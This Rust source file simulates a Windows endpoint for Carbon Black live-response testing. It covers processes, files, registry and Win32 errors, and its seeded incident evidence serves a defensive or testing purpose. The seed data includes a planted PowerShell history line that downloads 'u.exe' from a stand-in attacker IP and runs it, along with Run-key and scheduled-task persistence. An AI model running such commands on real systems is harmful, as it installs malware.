//! One simulated Windows endpoint: process table, file system and registry, plus the
//! semantics of every live-response command of §4.3 against them.
//!
//! Error codes follow Win32 behaviour as a CB sensor would report it (§4.4): HRESULTs with
//! FACILITY_WIN32, delivered unsigned.

use std::collections::BTreeMap;

use serde_json::{Map, Value, json};

use super::content::{Content, seed_for};

/// A Win32 HRESULT as the sensor reports it in `result_code` (unsigned, §4.4).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) struct Hresult(pub(crate) u32);

impl Hresult {
    pub(crate) const FILE_NOT_FOUND: Self = Self(0x8007_0002);
    pub(crate) const PATH_NOT_FOUND: Self = Self(0x8007_0003);
    pub(crate) const ACCESS_DENIED: Self = Self(0x8007_0005);
    pub(crate) const NOT_READY: Self = Self(0x8007_0015);
    pub(crate) const SHARING_VIOLATION: Self = Self(0x8007_0020);
    pub(crate) const FILE_EXISTS: Self = Self(0x8007_0050);
    pub(crate) const INVALID_PARAMETER: Self = Self(0x8007_0057);
    pub(crate) const ALREADY_EXISTS: Self = Self(0x8007_00B7);
    pub(crate) const DIRECTORY: Self = Self(0x8007_010B);

    /// `FormatMessage` text of the Win32 code, used as `result_desc`.
    pub(crate) fn desc(self) -> &'static str {
        match self {
            Self::FILE_NOT_FOUND => "The system cannot find the file specified.",
            Self::PATH_NOT_FOUND => "The system cannot find the path specified.",
            Self::ACCESS_DENIED => "Access is denied.",
            Self::NOT_READY => "The device is not ready.",
            Self::SHARING_VIOLATION => {
                "The process cannot access the file because it is being used by another process."
            }
            Self::FILE_EXISTS => "The file exists.",
            Self::INVALID_PARAMETER => "The parameter is incorrect.",
            Self::ALREADY_EXISTS => "Cannot create a file when that file already exists.",
            Self::DIRECTORY => "The directory name is invalid.",
            _ => "",
        }
    }
}

/// Known content of `C:\evidence\note.txt` on every sensor.
pub const NOTE_TXT: &str = "Quarterly numbers - DO NOT SHARE\r\nWire 42,000 to acct 1234\r\n";
/// Known content of `C:\Windows\System32\drivers\etc\hosts` on every sensor.
const HOSTS_TXT: &str = "# Copyright (c) 1993-2009 Microsoft Corp.\r\n#\r\n# localhost name resolution is handled within DNS itself.\r\n#\t127.0.0.1       localhost\r\n#\t::1             localhost\r\n";
/// Pid of the Carbon Black sensor service; processes started by `create process` hang off it.
const CB_PID: u64 = 1320;
/// Windows FILETIME epoch offset (seconds between 1601-01-01 and 1970-01-01).
const FILETIME_EPOCH: u64 = 11_644_473_600;

#[derive(Clone, Debug)]
struct Process {
    pid: u64,
    parent: u64,
    create_time: i64,
    path: String,
    command_line: String,
    sid: String,
    username: String,
    proc_guid: String,
    parent_guid: String,
}

#[derive(Clone, Debug)]
struct FsNode {
    /// Last path component in the case it was created with.
    name: String,
    dir: bool,
    content: Content,
    create_time: i64,
    last_access_time: i64,
    last_write_time: i64,
    extra_attrs: &'static [&'static str],
}

#[derive(Clone, Debug)]
struct RegValue {
    name: String,
    value_type: String,
    data: Value,
}

impl RegValue {
    fn to_json(&self) -> Value {
        json!({"value_type": self.value_type, "value_name": self.name, "value_data": self.data})
    }
}

#[derive(Clone, Debug, Default)]
struct RegKey {
    /// Last component in the case it was created with.
    name: String,
    values: Vec<RegValue>,
}

/// Result fields a command adds to its command object, plus the bytes a `get file` fetched.
#[derive(Debug, Default)]
pub(crate) struct Executed {
    pub(crate) fields: Map<String, Value>,
    pub(crate) fetched: Option<Content>,
}

/// The parameters of a queued command that execution needs (§4.3 request fields).
#[derive(Clone, Debug)]
pub(crate) struct CommandInput {
    pub(crate) name: String,
    pub(crate) object: Value,
    pub(crate) extra: Map<String, Value>,
    /// For `put file`: the session-storage content the `file_id` referred to at POST time.
    pub(crate) upload: Option<Content>,
}

impl CommandInput {
    fn object_str(&self) -> Result<&str, Hresult> {
        match &self.object {
            Value::String(s) if !s.trim().is_empty() => Ok(s.trim()),
            _ => Err(Hresult::INVALID_PARAMETER),
        }
    }

    pub(crate) fn flag(&self, key: &str) -> bool {
        self.extra.get(key).is_some_and(truthy)
    }

    fn string(&self, key: &str) -> Option<&str> {
        self.extra.get(key).and_then(Value::as_str).map(str::trim).filter(|s| !s.is_empty())
    }

    fn number(&self, key: &str) -> Option<u64> {
        self.extra.get(key).and_then(as_u64_lenient)
    }
}

/// DOC5 documents booleans as `"true"`/`"false"` strings while cbapi sends JSON booleans.
fn truthy(v: &Value) -> bool {
    match v {
        Value::Bool(b) => *b,
        Value::String(s) => s.eq_ignore_ascii_case("true") || s == "1",
        Value::Number(n) => n.as_u64().is_some_and(|n| n != 0),
        _ => false,
    }
}

pub(crate) fn as_u64_lenient(v: &Value) -> Option<u64> {
    match v {
        Value::Number(n) => n.as_u64(),
        Value::String(s) => s.trim().parse().ok(),
        _ => None,
    }
}

/// Seed row of the process table: (pid, parent, seconds after boot, path, command line,
/// (sid, user)).
type ProcSeed<'a> = (u64, u64, i64, &'a str, String, (&'a str, &'a str));
/// Seed registry key: path and its `(name, (type, data))` values.
type RegSeed<'a> = (&'a str, Vec<(&'a str, (&'a str, Value))>);

/// A sensor's operating system, as the sensor object's `os_type` reports it.
///
/// `os_type` 1 is Windows (cbapi `CbLRSessionBase.path_join` / `_random_file_name` branch on
/// `os_type == 1`, §5.1); 2 (OS X) and 3 (Linux) are the other values CB Response sensors
/// report (inferred: cbapi only distinguishes Windows from "Unix/Mac OS X").
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum SensorOs {
    #[default]
    Windows,
    MacOs,
    Linux,
}

impl SensorOs {
    /// The sensor object's `os_type`.
    pub fn os_type(self) -> u64 {
        match self {
            Self::Windows => 1,
            Self::MacOs => 2,
            Self::Linux => 3,
        }
    }
}

/// What kind of sensor a simulated endpoint runs: its OS, the sensor version
/// (`build_version_string`, e.g. `006.002.002.70329` for 6.2.2) and quirks.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SensorSpec {
    pub os: SensorOs,
    /// `build_version_string` of the sensor object (REC shape: `006.000.002.70329`).
    pub version: String,
    /// The sensor ignores `get file`'s `get_count` and sends everything from `offset` to
    /// the end of the file (a quirk some sensors have; DOC5 only says `get_count` is "the
    /// number of bytes to grab").
    pub ignores_get_count: bool,
}

impl Default for SensorSpec {
    /// A Windows 6.2 sensor, like the one of the recordings (REC).
    fn default() -> Self {
        Self::windows("006.002.002.70329")
    }
}

impl SensorSpec {
    pub fn windows(version: &str) -> Self {
        Self { os: SensorOs::Windows, version: version.to_owned(), ignores_get_count: false }
    }

    /// A Windows 5.0 sensor: no `memdump` (DOC5: it needs server and sensor 5.1+).
    pub fn windows_5_0() -> Self {
        Self::windows("005.000.000.50105")
    }

    pub fn linux() -> Self {
        Self { os: SensorOs::Linux, version: "006.002.002.70401".into(), ignores_get_count: false }
    }

    pub fn macos() -> Self {
        Self { os: SensorOs::MacOs, version: "006.002.002.70512".into(), ignores_get_count: false }
    }

    /// The same sensor, ignoring `get_count` (see the field).
    pub fn ignoring_get_count(mut self) -> Self {
        self.ignores_get_count = true;
        self
    }

    /// `(major, minor)` of [`Self::version`] (`"005.001.…"` is 5.1).
    pub fn major_minor(&self) -> (u32, u32) {
        let mut parts = self.version.split('.').map(|p| p.trim().parse::<u32>().unwrap_or(0));
        (parts.next().unwrap_or(0), parts.next().unwrap_or(0))
    }

    /// The session's `supported_commands` (§3.1) for this sensor, in the server's order.
    /// Windows 5.1+ lists the 15 of REC; older Windows sensors lack `memdump` (DOC5: "requires
    /// that the target endpoint is running a sensor version 5.1 and above"; DOCPY: a pre-5.1
    /// sensor refuses a memory dump); OS X and Linux sensors have no registry and no memdump
    /// (inferred: those are Windows facilities; DOC5 describes `supported_commands` as "for
    /// when we support multiple commands across different architectures").
    pub fn supported_commands(&self) -> Vec<&'static str> {
        let windows = self.os == SensorOs::Windows;
        let memdump = windows && self.major_minor() >= (5, 1);
        crate::SUPPORTED_COMMANDS
            .into_iter()
            .filter(|c| match *c {
                "memdump" => memdump,
                c if c.starts_with("reg ") => windows,
                _ => true,
            })
            .collect()
    }
}

pub(crate) struct Endpoint {
    sensor_id: u64,
    hostname: String,
    os: SensorOs,
    ignores_get_count: bool,
    processes: Vec<Process>,
    next_pid: u64,
    fs: BTreeMap<String, FsNode>,
    registry: BTreeMap<String, RegKey>,
    boot_epoch: i64,
    memdump_size: u64,
}

impl Endpoint {
    pub(crate) fn new(
        sensor_id: u64,
        hostname: &str,
        spec: &SensorSpec,
        big_file_size: u64,
        memdump_size: u64,
        now_epoch: i64,
    ) -> Self {
        let mut ep = Self {
            sensor_id,
            hostname: hostname.to_owned(),
            os: spec.os,
            ignores_get_count: spec.ignores_get_count,
            processes: Vec::new(),
            next_pid: 4000,
            fs: BTreeMap::new(),
            registry: BTreeMap::new(),
            // Booted three days ago, staggered per sensor so hosts don't look cloned.
            boot_epoch: now_epoch - 3 * 86_400 - (sensor_id as i64 % 97) * 613,
            memdump_size,
        };
        match spec.os {
            SensorOs::Windows => {
                ep.seed_processes();
                ep.seed_files(big_file_size);
                ep.seed_registry();
                ep.seed_windows_extras();
            }
            SensorOs::Linux | SensorOs::MacOs => {
                ep.seed_unix_processes();
                ep.seed_unix_files(big_file_size);
            }
        }
        ep
    }

    /// The canonical node key of `path` on this endpoint: `c:\...` (lower-case) on
    /// Windows; `/...` on Linux (case-sensitive) and macOS (case-insensitive, like APFS's
    /// default, so folded to lower-case). `None` for a path this OS cannot name.
    fn key(&self, path: &str) -> Option<String> {
        match self.os {
            SensorOs::Windows => norm_path(path),
            SensorOs::Linux => norm_unix(path, false),
            SensorOs::MacOs => norm_unix(path, true),
        }
    }

    fn windows(&self) -> bool {
        self.os == SensorOs::Windows
    }

    /// The path separator of this endpoint.
    fn sep(&self) -> char {
        if self.windows() { '\\' } else { '/' }
    }

    /// Join a possibly relative path onto a working directory key.
    fn resolve_relative(&self, path: &str, cwd: &str) -> Option<String> {
        if self.key(path).is_some() {
            Some(path.to_owned())
        } else {
            let sep = self.sep();
            self.key(&format!("{cwd}{sep}{path}"))
        }
    }

    // ----- seed data ---------------------------------------------------------------------

    fn seed_processes(&mut self) {
        const SYSTEM: (&str, &str) = ("s-1-5-18", "NT AUTHORITY\\SYSTEM");
        const LOCAL: (&str, &str) = ("s-1-5-19", "NT AUTHORITY\\LOCAL SERVICE");
        const NETWORK: (&str, &str) = ("s-1-5-20", "NT AUTHORITY\\NETWORK SERVICE");
        let user_sid =
            format!("s-1-5-21-850238481-2932160288-{}-1001", 1_760_307_000 + self.sensor_id);
        let user_name = format!("{}\\jdoe", self.hostname);
        let csrss_cmd = "%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768 Windows=On SubSystemType=Windows ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 ServerDll=sxssrv,4 ProfileControl=Off MaxRequestThreads=16";
        let table: Vec<ProcSeed<'_>> = vec![
            (4, 0, 0, "", String::new(), SYSTEM),
            (
                340,
                4,
                0,
                "c:\\windows\\system32\\smss.exe",
                "\\SystemRoot\\System32\\smss.exe".into(),
                SYSTEM,
            ),
            (424, 416, 9, "c:\\windows\\system32\\csrss.exe", csrss_cmd.into(), SYSTEM),
            (472, 416, 11, "c:\\windows\\system32\\wininit.exe", "wininit.exe".into(), SYSTEM),
            (484, 464, 11, "c:\\windows\\system32\\csrss.exe", csrss_cmd.into(), SYSTEM),
            (524, 464, 11, "c:\\windows\\system32\\winlogon.exe", "winlogon.exe".into(), SYSTEM),
            (
                568,
                472,
                12,
                "c:\\windows\\system32\\services.exe",
                "C:\\Windows\\system32\\services.exe".into(),
                SYSTEM,
            ),
            (
                584,
                472,
                12,
                "c:\\windows\\system32\\lsass.exe",
                "C:\\Windows\\system32\\lsass.exe".into(),
                SYSTEM,
            ),
            (
                700,
                568,
                14,
                "c:\\windows\\system32\\svchost.exe",
                "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p".into(),
                SYSTEM,
            ),
            (
                780,
                568,
                14,
                "c:\\windows\\system32\\svchost.exe",
                "C:\\Windows\\system32\\svchost.exe -k RPCSS -p".into(),
                NETWORK,
            ),
            (
                860,
                568,
                15,
                "c:\\windows\\system32\\svchost.exe",
                "C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p".into(),
                LOCAL,
            ),
            (
                900,
                568,
                15,
                "c:\\windows\\system32\\svchost.exe",
                "C:\\Windows\\system32\\svchost.exe -k netsvcs -p".into(),
                SYSTEM,
            ),
            (
                948,
                568,
                16,
                "c:\\windows\\system32\\svchost.exe",
                "C:\\Windows\\system32\\svchost.exe -k NetworkService -p".into(),
                NETWORK,
            ),
            (
                1100,
                568,
                18,
                "c:\\windows\\system32\\spoolsv.exe",
                "C:\\Windows\\System32\\spoolsv.exe".into(),
                SYSTEM,
            ),
            (
                CB_PID,
                568,
                19,
                "c:\\windows\\carbonblack\\cb.exe",
                "C:\\Windows\\CarbonBlack\\cb.exe".into(),
                SYSTEM,
            ),
            (
                2044,
                2000,
                95,
                "c:\\windows\\explorer.exe",
                "C:\\Windows\\Explorer.EXE".into(),
                (&user_sid, &user_name),
            ),
            (
                2468,
                2044,
                410,
                "c:\\windows\\system32\\notepad.exe",
                "\"C:\\Windows\\system32\\notepad.exe\" C:\\Users\\jdoe\\Desktop\\todo.txt".into(),
                (&user_sid, &user_name),
            ),
            (
                3012,
                2044,
                7_200,
                "c:\\users\\jdoe\\appdata\\local\\temp\\updater.exe",
                "\"C:\\Users\\jdoe\\AppData\\Local\\Temp\\updater.exe\" --silent --beacon 300"
                    .into(),
                (&user_sid, &user_name),
            ),
        ];
        for (pid, parent, offset, path, cmd, (sid, user)) in table {
            self.spawn(pid, parent, self.boot_epoch + offset, path, cmd, sid, user);
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn spawn(
        &mut self,
        pid: u64,
        parent: u64,
        create_time: i64,
        path: &str,
        command_line: String,
        sid: &str,
        username: &str,
    ) {
        let proc_guid = self.guid(pid, create_time);
        // §4.3: the parent of System (pid 0) has an all-zero GUID tail; a parent that already
        // exited (e.g. smss children) still gets a GUID derived from its pid.
        let parent_guid = match self.processes.iter().find(|p| p.pid == parent) {
            Some(p) => p.proc_guid.clone(),
            None if parent == 0 => format!("{:08x}-0000-0000-0000-000000000000", self.sensor_id),
            None => self.guid(parent, create_time - 1),
        };
        self.processes.push(Process {
            pid,
            parent,
            create_time,
            path: path.to_owned(),
            command_line,
            sid: sid.to_owned(),
            username: username.to_owned(),
            proc_guid,
            parent_guid,
        });
    }

    /// §4.3 GUID layout: sensor id (8 hex), pid in the next two groups, process start
    /// FILETIME in the last two.
    fn guid(&self, pid: u64, create_time: i64) -> String {
        let secs = u64::try_from(create_time).unwrap_or(0) + FILETIME_EPOCH;
        let ft = secs * 10_000_000 + (pid * 1_237_291) % 10_000_000;
        format!(
            "{:08x}-{:04x}-{:04x}-{:04x}-{:012x}",
            self.sensor_id,
            (pid >> 16) & 0xffff,
            pid & 0xffff,
            (ft >> 48) & 0xffff,
            ft & 0xffff_ffff_ffff
        )
    }

    fn seed_files(&mut self, big_file_size: u64) {
        let t0 = self.boot_epoch - 200 * 86_400;
        for root in ["c:\\", "d:\\"] {
            self.fs.insert(root.to_owned(), dir_node("", t0));
        }
        let dirs = [
            "C:\\Windows",
            "C:\\Windows\\System32",
            "C:\\Windows\\System32\\config",
            "C:\\Windows\\System32\\drivers",
            "C:\\Windows\\System32\\drivers\\etc",
            "C:\\Windows\\System32\\WindowsPowerShell",
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
            "C:\\Windows\\CarbonBlack",
            "C:\\Windows\\Temp",
            "C:\\Program Files",
            "C:\\Program Files (x86)",
            "C:\\ProgramData",
            "C:\\Users",
            "C:\\Users\\Public",
            "C:\\Users\\jdoe",
            "C:\\Users\\jdoe\\Desktop",
            "C:\\Users\\jdoe\\Documents",
            "C:\\Users\\jdoe\\AppData",
            "C:\\Users\\jdoe\\AppData\\Local",
            "C:\\Users\\jdoe\\AppData\\Local\\Temp",
            "C:\\evidence",
        ];
        for d in dirs {
            self.seed_dir(d, t0);
        }
        let binaries: [(&str, u64); 20] = [
            ("C:\\Windows\\explorer.exe", 4_846_104),
            ("C:\\Windows\\System32\\smss.exe", 154_624),
            ("C:\\Windows\\System32\\csrss.exe", 17_408),
            ("C:\\Windows\\System32\\wininit.exe", 455_168),
            ("C:\\Windows\\System32\\winlogon.exe", 906_240),
            ("C:\\Windows\\System32\\services.exe", 708_736),
            ("C:\\Windows\\System32\\lsass.exe", 59_456),
            ("C:\\Windows\\System32\\svchost.exe", 57_360),
            ("C:\\Windows\\System32\\spoolsv.exe", 932_864),
            ("C:\\Windows\\System32\\cmd.exe", 289_792),
            ("C:\\Windows\\System32\\notepad.exe", 201_216),
            ("C:\\Windows\\System32\\whoami.exe", 73_728),
            ("C:\\Windows\\System32\\hostname.exe", 16_384),
            ("C:\\Windows\\System32\\ipconfig.exe", 35_840),
            ("C:\\Windows\\System32\\taskkill.exe", 94_208),
            ("C:\\Windows\\System32\\conhost.exe", 868_352),
            ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", 452_608),
            ("C:\\Windows\\CarbonBlack\\cb.exe", 3_915_272),
            ("C:\\Users\\jdoe\\AppData\\Local\\Temp\\updater.exe", 73_216),
            ("C:\\Windows\\System32\\drivers\\acpi.sys", 765_792),
        ];
        for (path, size) in binaries {
            self.seed_synthetic(path, size, &[], t0);
        }
        for hive in ["SAM", "SECURITY", "SOFTWARE", "SYSTEM"] {
            let path = format!("C:\\Windows\\System32\\config\\{hive}");
            self.seed_synthetic(&path, 262_144, &[], t0);
        }
        self.seed_synthetic("C:\\pagefile.sys", 1_073_741_824, &["HIDDEN", "SYSTEM"], t0);
        self.seed_synthetic("C:\\evidence\\big.bin", big_file_size, &[], t0);
        let host_note = format!("Hostname: {}\r\n", self.hostname);
        let texts: [(&str, &[u8]); 7] = [
            ("C:\\Windows\\System32\\drivers\\etc\\hosts", HOSTS_TXT.as_bytes()),
            ("C:\\evidence\\note.txt", NOTE_TXT.as_bytes()),
            ("C:\\evidence\\empty.txt", b""),
            ("C:\\evidence\\host.txt", host_note.as_bytes()),
            ("C:\\test.txt", b""),
            (
                "C:\\Users\\jdoe\\Desktop\\todo.txt",
                b"- call IT about the weird popup\r\n- renew VPN cert\r\n",
            ),
            ("C:\\Users\\jdoe\\Documents\\report.docx", b"PK\x03\x04 not really a docx"),
        ];
        for (path, body) in texts {
            if let Some(key) = self.key(path) {
                let name = last_component(path).to_owned();
                self.fs.insert(key, file_node(name, Content::bytes(body.to_vec()), t0, &[]));
            }
        }
    }

    fn seed_dir(&mut self, path: &str, t: i64) {
        if let Some(key) = self.key(path) {
            self.fs.insert(key, dir_node(last_component(path), t));
        }
    }

    fn seed_synthetic(&mut self, path: &str, size: u64, attrs: &'static [&'static str], t: i64) {
        if let Some(key) = self.key(path) {
            let content = Content::synthetic(seed_for(self.sensor_id, &key), size);
            self.fs.insert(key, file_node(last_component(path).to_owned(), content, t, attrs));
        }
    }

    fn seed_registry(&mut self) {
        let sz = |s: &str| ("REG_SZ", Value::from(s));
        let expand = |s: &str| ("REG_EXPAND_SZ", Value::from(s));
        let dword = |n: u32| ("REG_DWORD", Value::from(n));
        let keys: Vec<RegSeed<'_>> = vec![
            (
                "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
                vec![
                    ("SecurityHealth", expand("%windir%\\system32\\SecurityHealthSystray.exe")),
                    (
                        "Updater",
                        sz("\"C:\\Users\\jdoe\\AppData\\Local\\Temp\\updater.exe\" --silent"),
                    ),
                ],
            ),
            ("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce", vec![]),
            (
                "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion",
                vec![
                    ("ProductName", sz("Windows 10 Enterprise")),
                    ("CurrentBuild", sz("19045")),
                    ("InstallDate", dword(1_650_000_000)),
                    ("RegisteredOwner", sz("jdoe")),
                ],
            ),
            (
                "HKLM\\SYSTEM\\CurrentControlSet\\Services\\ACPI",
                vec![
                    ("Start", dword(0)),
                    ("Type", dword(1)),
                    ("ImagePath", expand("System32\\drivers\\ACPI.sys")),
                ],
            ),
            (
                "HKLM\\SYSTEM\\CurrentControlSet\\Services\\CarbonBlack",
                vec![("Start", dword(2)), ("ImagePath", sz("C:\\Windows\\CarbonBlack\\cb.exe"))],
            ),
            (
                "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Session Manager",
                vec![("BootExecute", ("REG_MULTI_SZ", json!(["autocheck autochk *"])))],
            ),
            (
                "HKLM\\SYSTEM\\CurrentControlSet\\Control\\ComputerName\\ComputerName",
                vec![("ComputerName", sz(&self.hostname.clone()))],
            ),
            ("HKU\\.DEFAULT\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", vec![]),
        ];
        for hive in ["HKLM", "HKU", "HKCU", "HKCR", "HKCC"] {
            self.registry.insert(
                hive.to_ascii_lowercase(),
                RegKey { name: hive.to_owned(), values: Vec::new() },
            );
        }
        for (path, values) in keys {
            if let Ok(key) = self.reg_create_key_inner(path)
                && let Some(k) = self.registry.get_mut(&key)
            {
                k.values = values
                    .into_iter()
                    .map(|(name, (ty, data))| RegValue {
                        name: name.to_owned(),
                        value_type: ty.to_owned(),
                        data,
                    })
                    .collect();
            }
        }
    }

    // ----- what a responder looks at first (beyond the demo's evidence) ---------------------

    /// The rest of a believable Windows 10 host: event logs, prefetch, scheduled tasks,
    /// start-up folders, user hives, the usual LOLBins, more services and their registry keys.
    fn seed_windows_extras(&mut self) {
        let t0 = self.boot_epoch - 200 * 86_400;
        let user_sid =
            format!("S-1-5-21-850238481-2932160288-{}-1001", 1_760_307_000 + self.sensor_id);
        for d in [
            "C:\\$Recycle.Bin",
            "C:\\Windows\\System32\\winevt\\Logs",
            "C:\\Windows\\System32\\Tasks\\Microsoft\\Windows",
            "C:\\Windows\\System32\\wbem",
            "C:\\Windows\\SysWOW64",
            "C:\\Windows\\Prefetch",
            "C:\\Program Files\\Windows Defender",
            "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp",
            "C:\\Users\\Default",
            "C:\\Users\\jdoe\\Downloads",
            "C:\\Users\\jdoe\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup",
            "C:\\Users\\jdoe\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine",
        ] {
            self.seed_dir_all(d, t0);
        }
        let binaries: [(&str, u64); 22] = [
            ("C:\\Windows\\System32\\ntoskrnl.exe", 10_926_408),
            ("C:\\Windows\\System32\\ntdll.dll", 2_050_344),
            ("C:\\Windows\\System32\\kernel32.dll", 774_256),
            ("C:\\Windows\\System32\\advapi32.dll", 711_808),
            ("C:\\Windows\\System32\\userinit.exe", 34_304),
            ("C:\\Windows\\System32\\dwm.exe", 94_720),
            ("C:\\Windows\\System32\\taskhostw.exe", 101_888),
            ("C:\\Windows\\System32\\sihost.exe", 120_320),
            ("C:\\Windows\\System32\\RuntimeBroker.exe", 135_168),
            ("C:\\Windows\\System32\\reg.exe", 76_800),
            ("C:\\Windows\\System32\\tasklist.exe", 99_328),
            ("C:\\Windows\\System32\\netstat.exe", 39_424),
            ("C:\\Windows\\System32\\net.exe", 57_344),
            ("C:\\Windows\\System32\\sc.exe", 71_680),
            ("C:\\Windows\\System32\\schtasks.exe", 231_424),
            ("C:\\Windows\\System32\\rundll32.exe", 71_680),
            ("C:\\Windows\\System32\\regsvr32.exe", 25_088),
            ("C:\\Windows\\System32\\certutil.exe", 1_335_808),
            ("C:\\Windows\\System32\\wbem\\WMIC.exe", 517_632),
            ("C:\\Windows\\SysWOW64\\cmd.exe", 236_544),
            ("C:\\Program Files\\Windows Defender\\MsMpEng.exe", 133_440),
            ("C:\\Users\\jdoe\\NTUSER.DAT", 2_621_440),
        ];
        for (path, size) in binaries {
            self.seed_synthetic(path, size, &[], t0);
        }
        self.seed_synthetic("C:\\Users\\Default\\NTUSER.DAT", 262_144, &["HIDDEN"], t0);
        for log in [
            "Application.evtx",
            "Security.evtx",
            "System.evtx",
            "Setup.evtx",
            "Windows PowerShell.evtx",
            "Microsoft-Windows-PowerShell%4Operational.evtx",
            "Microsoft-Windows-TaskScheduler%4Operational.evtx",
            "Microsoft-Windows-TerminalServices-LocalSessionManager%4Operational.evtx",
        ] {
            let size = if log == "Security.evtx" { 20_975_616 } else { 1_118_208 };
            self.seed_synthetic(
                &format!("C:\\Windows\\System32\\winevt\\Logs\\{log}"),
                size,
                &[],
                t0,
            );
        }
        for pf in ["CMD.EXE-4A81B364.pf", "POWERSHELL.EXE-022A1004.pf", "UPDATER.EXE-7F1C2A9D.pf"] {
            self.seed_synthetic(&format!("C:\\Windows\\Prefetch\\{pf}"), 23_456, &[], t0);
        }
        let texts: Vec<(&str, Vec<u8>)> = vec![
            (
                "C:\\Windows\\System32\\drivers\\etc\\networks",
                b"# Copyright (c) 1993-1999 Microsoft Corp.\r\nloopback                 127\r\n".to_vec(),
            ),
            (
                "C:\\Windows\\System32\\drivers\\etc\\services",
                b"echo                7/tcp\r\nftp                21/tcp\r\nssh                22/tcp\r\nhttp               80/tcp    www\r\nhttps             443/tcp\r\n".to_vec(),
            ),
            (
                "C:\\Windows\\System32\\Tasks\\Microsoft\\Windows\\UpdaterTask",
                b"<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task><Actions><Exec><Command>C:\\Users\\jdoe\\AppData\\Local\\Temp\\updater.exe</Command><Arguments>--silent</Arguments></Exec></Actions></Task>\r\n".to_vec(),
            ),
            (
                "C:\\Users\\jdoe\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt",
                b"Get-Process\r\nInvoke-WebRequest -Uri http://203.0.113.7/u.exe -OutFile $env:TEMP\\updater.exe\r\nStart-Process $env:TEMP\\updater.exe -ArgumentList '--silent'\r\n".to_vec(),
            ),
            ("C:\\Users\\jdoe\\Downloads\\invoice_2291.pdf.lnk", b"L\x00\x00\x00 shortcut".to_vec()),
        ];
        for (path, body) in texts {
            self.seed_text(path, body, t0);
        }

        const SYSTEM: (&str, &str) = ("s-1-5-18", "NT AUTHORITY\\SYSTEM");
        let user_sid_lc = user_sid.to_lowercase();
        let user_name = format!("{}\\jdoe", self.hostname);
        let procs: Vec<ProcSeed<'_>> = vec![
            (
                1040,
                524,
                13,
                "c:\\windows\\system32\\dwm.exe",
                "\"dwm.exe\"".into(),
                ("s-1-5-90-0-1", "Window Manager\\DWM-1"),
            ),
            (
                1680,
                568,
                20,
                "c:\\program files\\windows defender\\msmpeng.exe",
                "\"C:\\Program Files\\Windows Defender\\MsMpEng.exe\"".into(),
                SYSTEM,
            ),
            (
                2012,
                900,
                94,
                "c:\\windows\\system32\\sihost.exe",
                "sihost.exe".into(),
                (&user_sid_lc, &user_name),
            ),
            (
                2036,
                900,
                94,
                "c:\\windows\\system32\\taskhostw.exe",
                "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}".into(),
                (&user_sid_lc, &user_name),
            ),
            (
                2600,
                700,
                120,
                "c:\\windows\\system32\\runtimebroker.exe",
                "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding".into(),
                (&user_sid_lc, &user_name),
            ),
        ];
        for (pid, parent, offset, path, cmd, (sid, user)) in procs {
            self.spawn(pid, parent, self.boot_epoch + offset, path, cmd, sid, user);
        }
        // The process list in pid order, as a sensor walking the process table returns it.
        self.processes.sort_by_key(|p| p.pid);

        let sz = |s: &str| ("REG_SZ", Value::from(s));
        let expand = |s: &str| ("REG_EXPAND_SZ", Value::from(s));
        let dword = |n: u32| ("REG_DWORD", Value::from(n));
        let user_run =
            format!("HKU\\{user_sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run");
        let keys: Vec<RegSeed<'_>> = vec![
            (
                "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon",
                vec![
                    ("Shell", sz("explorer.exe")),
                    ("Userinit", sz("C:\\Windows\\system32\\userinit.exe,")),
                    ("AutoAdminLogon", sz("0")),
                ],
            ),
            (
                "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options",
                vec![],
            ),
            (
                "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System",
                vec![("EnableLUA", dword(1))],
            ),
            ("HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run", vec![]),
            (
                "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\CarbonBlack",
                vec![
                    ("DisplayName", sz("Carbon Black Sensor")),
                    ("Publisher", sz("Carbon Black, Inc.")),
                ],
            ),
            (
                "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection",
                vec![("DisableRealtimeMonitoring", dword(0))],
            ),
            (
                "HKLM\\SYSTEM\\CurrentControlSet\\Services\\EventLog",
                vec![
                    ("Start", dword(2)),
                    (
                        "ImagePath",
                        expand(
                            "%SystemRoot%\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p",
                        ),
                    ),
                ],
            ),
            (
                "HKLM\\SYSTEM\\CurrentControlSet\\Services\\Schedule",
                vec![
                    ("Start", dword(2)),
                    ("ImagePath", expand("%systemroot%\\system32\\svchost.exe -k netsvcs -p")),
                ],
            ),
            (
                "HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend",
                vec![
                    ("Start", dword(2)),
                    ("ImagePath", expand("\"C:\\Program Files\\Windows Defender\\MsMpEng.exe\"")),
                ],
            ),
            (
                "HKLM\\SYSTEM\\CurrentControlSet\\Services\\Spooler",
                vec![
                    ("Start", dword(2)),
